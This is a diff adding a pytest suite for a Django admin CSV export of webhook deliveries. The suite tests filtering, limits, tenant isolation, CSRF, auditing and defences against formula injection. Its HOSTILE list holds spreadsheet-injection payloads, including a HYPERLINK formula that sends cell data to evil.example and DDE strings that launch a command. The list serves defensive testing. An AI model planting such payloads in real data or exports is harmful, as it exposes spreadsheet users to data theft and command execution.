@@ -1,0 +1,273 @@
+"""The list of deliveries as CSV: what the filter shows, of no other tenant, and nothing that is calculated."""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Iterator
+from datetime import timedelta
+
+import pytest
+from django.db import DatabaseError, connection
+from django.http import StreamingHttpResponse
+from django.test import Client
+from django.test.utils import CaptureQueriesContext
+from django.utils import timezone
+from hypothesis import given
+from hypothesis import strategies as st
+
+from deliveries.admin import export
+from deliveries.admin.export import as_csv, cell
+from deliveries.models import AuditEntry, Customer, Delivery, DueDelivery, Endpoint
+from deliveries.services.customers import delete_customer
+from deliveries.services.events import EventDraft, accept_event
+from tests.pages.conftest import House
+
+pytestmark = pytest.mark.django_db
+
+# What an endpoint answers, or what a customer calls itself, when it wants a spreadsheet to run it.
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "\n=1+1",
+    "\uff1d1+1",
+    '",=1+1,"',
+    'a"\r\n=1+1,"b',
+    "<script>alert(1)</script>",
+    "\u202egnp",
+]
+
+
+@pytest.fixture(autouse=True)
+def free_slots() -> Iterator[None]:
+    """No export of another test counts."""
+    export._slots._ends.clear()
+    yield
+    export._slots._ends.clear()
+
+
+def emit(house: House, count: int, *, name: str = "order.shipped") -> None:
+    """Events of the house's customer."""
+    for _ in range(count):
+        accept_event(EventDraft(customer_id=house.customer.id, type=name, data=b"{}"))
+    DueDelivery.objects.update(due_at=timezone.now() + timedelta(minutes=5))
+
+
+def taken(client: Client, *, site: str = "admin", query: str = "") -> list[dict[str, str]]:
+    """The rows of an export, by column."""
+    answer = client.post(f"/{site}/deliveries/delivery/export/{query}")
+    assert answer.status_code == 200
+    assert isinstance(answer, StreamingHttpResponse)
+    text = answer.getvalue().decode()
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def test_a_row_says_what_support_needs(bob: Client, acme: House) -> None:
+    (row,) = taken(bob)
+    assert row == {
+        "delivery": acme.delivery.public_id,
+        "customer": "Acme",
+        "endpoint_url": acme.endpoint.url,
+        "event": acme.event.public_id,
+        "event_type": "invoice.paid",
+        "state": "pending",
+        "attempts": "1",
+        "last_status": "404",
+        "last_error": "http_4xx",
+        "created_at": acme.delivery.created_at.isoformat(timespec="milliseconds").replace("+00:00", "Z"),
+        "finished_at": "",
+    }
+
+
+def test_it_is_a_download(bob: Client, acme: House) -> None:
+    answer = bob.post("/admin/deliveries/delivery/export/")
+    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
+    assert answer.headers["Content-Disposition"].startswith('attachment; filename="deliveries-20')
+    assert answer.headers["Cache-Control"].startswith("no-store")
+    assert answer.headers["X-Content-Type-Options"] == "nosniff"
+
+
+def test_what_the_filter_shows_is_taken_from_all_pages(bob: Client, acme: House, globex: House) -> None:
+    emit(acme, 60)
+    emit(globex, 3)
+    assert len(taken(bob, query="?customer=acme&type=order.shipped")) == 60
+    assert len(taken(bob, query="?error=http_4xx")) == 2
+    assert len(taken(bob, query=f"?q={globex.endpoint.public_id}")) == 4
+    assert taken(bob, query="?state=exhausted") == []
+    place = bob.get("/admin/deliveries/delivery/").context["cl"].paginator.older
+    assert len(taken(bob, query=place)) == 65
+
+
+def test_rows_come_newest_first_in_parts_without_gaps(
+    bob: Client, acme: House, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(export, "PART", 7)
+    emit(acme, 28)
+    found = [row["delivery"] for row in taken(bob)]
+    assert found == [delivery.public_id for delivery in Delivery.objects.order_by("-id")]
+    assert len(found) == 29
+
+
+def test_an_export_counts_and_skips_nothing_and_asks_a_few_questions_a_part(
+    bob: Client, acme: House, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(export, "PART", 10)
+    emit(acme, 39)
+    with CaptureQueriesContext(connection) as queries:
+        assert len(taken(bob)) == 40
+    on_log = [each["sql"] for each in queries if 'FROM "hookpost_delivery"' in each["sql"]]
+    assert len(on_log) == 4
+    assert not [sql for sql in on_log if "COUNT(" in sql.upper() or "OFFSET" in sql.upper()]
+    assert all("LIMIT 11" in sql for sql in on_log)
+
+
+def test_an_export_that_is_too_long_says_so_at_its_end(
+    bob: Client, acme: House, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(export, "PART", 5)
+    monkeypatch.setattr(export, "ROWS_LIMIT", 10)
+    emit(acme, 9)
+    assert len(taken(bob)) == 10
+    emit(acme, 1)
+    rows = taken(bob)
+    assert len(rows) == 11
+    assert rows[-1]["delivery"] == (
+        "Not all deliveries are here: these are the newest 10; narrow the filter to get the others."
+    )
+
+
+@pytest.mark.parametrize(
+    ("error", "said"), [(export.TooSlow(), "takes too long"), (DatabaseError("gone"), "the database did not answer")]
+)
+def test_an_export_that_breaks_off_says_so_at_its_end(
+    error: Exception, said: str, bob: Client, acme: House, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def fail(*args: object) -> None:
+        raise error
+
+    monkeypatch.setattr(export, "_part", fail)
+    (row,) = taken(bob)
+    assert said in row["delivery"]
+
+
+def test_an_export_ends_in_time(bob: Client, acme: House, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(export, "PART", 2)
+    monkeypatch.setattr(export, "EXPORT_SECONDS", -1.0)
+    emit(acme, 5)
+    rows = taken(bob)
+    assert len(rows) == 3
+    assert "it took too long" in rows[-1]["delivery"]
+
+
+# --- what others chose
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_no_cell_is_a_formula_and_none_breaks_its_line(text: str, bob: Client, acme: House) -> None:
+    Customer.objects.filter(pk=acme.customer.pk).update(name=text)
+    Endpoint.objects.filter(pk=acme.endpoint.pk).update(url=text)
+    Delivery.objects.update(error=text, event_type=text)
+    emit(acme, 1)
+    plain, hostile = taken(bob)
+    for name in ("customer", "endpoint_url", "event_type", "last_error"):
+        assert hostile[name].removeprefix("'") == text
+        assert hostile[name].lstrip()[0] not in "=+-@\uff1d"
+    assert hostile["delivery"] == acme.delivery.public_id
+    assert hostile["finished_at"] == plain["finished_at"] == ""
+
+
+@given(st.lists(st.text(alphabet=st.characters() | st.sampled_from('=+-@\t\r\n",\x00\ud800')), min_size=1))
+def test_any_text_is_one_cell_that_nothing_calculates(texts: list[str]) -> None:
+    raw = as_csv([texts])
+    (row,) = csv.reader(io.StringIO(raw.decode(), newline=""))
+    assert len(row) == len(texts)
+    assert not [each for each in row if each.strip()[:1] and each.strip()[0] in "=+-@\uff1d\uff0b\uff0d\uff20"]
+    assert b"\x00" not in raw
+
+
+@pytest.mark.parametrize(
+    ("value", "shown"),
+    [(None, ""), (0, "0"), (404, "404"), ("", ""), ("a\x00b", "ab"), ("invoice.paid", "invoice.paid"), ("é", "é")],
+)
+def test_a_harmless_value_is_shown_as_it_is(value: object, shown: str) -> None:
+    assert cell(value) == shown
+
+
+# --- who may
+
+
+def test_a_member_takes_their_own_customers_deliveries_only(carol: Client, acme: House, globex: House) -> None:
+    emit(globex, 3)
+    assert [row["delivery"] for row in taken(carol, site="portal")] == [acme.delivery.public_id]
+    for query in (f"?q={globex.delivery.public_id}", f"?endpoint={globex.endpoint.public_id}"):
+        assert taken(carol, site="portal", query=query) == []
+
+
+def test_a_member_finds_no_export_on_the_staffs_site(carol: Client, acme: House) -> None:
+    assert carol.post("/admin/deliveries/delivery/export/").status_code == 302
+
+
+def test_lists_cannot_be_bent_by_lookups(carol: Client, acme: House, globex: House) -> None:
+    answer = carol.post(f"/portal/deliveries/delivery/export/?customer__id={globex.customer.pk}")
+    assert answer.status_code in (302, 400)
+
+
+def test_an_export_is_a_post_with_the_forms_token(bob: Client, acme: House) -> None:
+    assert bob.get("/admin/deliveries/delivery/export/").status_code == 405
+    strict = Client(enforce_csrf_checks=True)
+    strict.force_login(acme.member.user, backend="django.contrib.auth.backends.ModelBackend")
+    assert strict.post("/portal/deliveries/delivery/export/").status_code == 403
+    assert not AuditEntry.objects.filter(action="delivery.export").exists()
+
+
+def test_who_took_what_is_in_the_audit_trail(bob: Client, carol: Client, acme: House) -> None:
+    taken(bob, query="?customer=acme&state=pending&p=older-x")
+    taken(carol, site="portal")
+    staff, member = AuditEntry.objects.filter(action="delivery.export").order_by("id")
+    assert (staff.actor, staff.customer, staff.detail) == (
+        "user:bob",
+        None,
+        {"filter": {"customer": "acme", "state": "pending"}},
+    )
+    assert (member.actor, member.customer, member.detail) == ("user:carol", acme.customer, {"filter": {}})
+
+
+def test_a_filter_that_cannot_be_stored_breaks_nothing(bob: Client, acme: House) -> None:
+    taken(bob, query="?customer=a%00b%ed%a0%80&type=" + "x" * 5000)
+    entry = AuditEntry.objects.get(action="delivery.export")
+    assert len(entry.detail["filter"]["type"]) == 200
+
+
+def give_up(answer: object) -> None:
+    """What a server does when the browser is gone."""
+    for close in answer._resource_closers:  # type: ignore[attr-defined]
+        close()
+
+
+def test_exports_hold_few_threads_at_once(bob: Client, acme: House) -> None:
+    """Given two people who read slowly, then a third is asked to wait, and one who gave up makes room."""
+    slow = [bob.post("/admin/deliveries/delivery/export/") for _ in range(2)]
+    refused = bob.post("/admin/deliveries/delivery/export/", follow=True)
+    assert "Other exports are under way." in refused.content.decode()
+    give_up(slow[0])
+    assert len(taken(bob)) == 1
+    give_up(slow[1])
+    assert export._slots._ends == []
+
+
+def test_what_outlived_its_customer_is_named_by_its_ids(bob: Client, acme: House) -> None:
+    ids = acme.customer.public_id, acme.endpoint.public_id
+    delete_customer(acme.customer, actor="user:alice")
+    (row,) = taken(bob)
+    assert (row["customer"], row["endpoint_url"]) == ids
+
+
+def test_the_list_offers_the_export_of_what_it_shows(bob: Client, carol: Client, acme: House) -> None:
+    for client, site in ((bob, "admin"), (carol, "portal")):
+        text = client.get(f"/{site}/deliveries/delivery/?state=pending").content.decode()
+        assert f'action="/{site}/deliveries/delivery/export/?state=pending"' in text
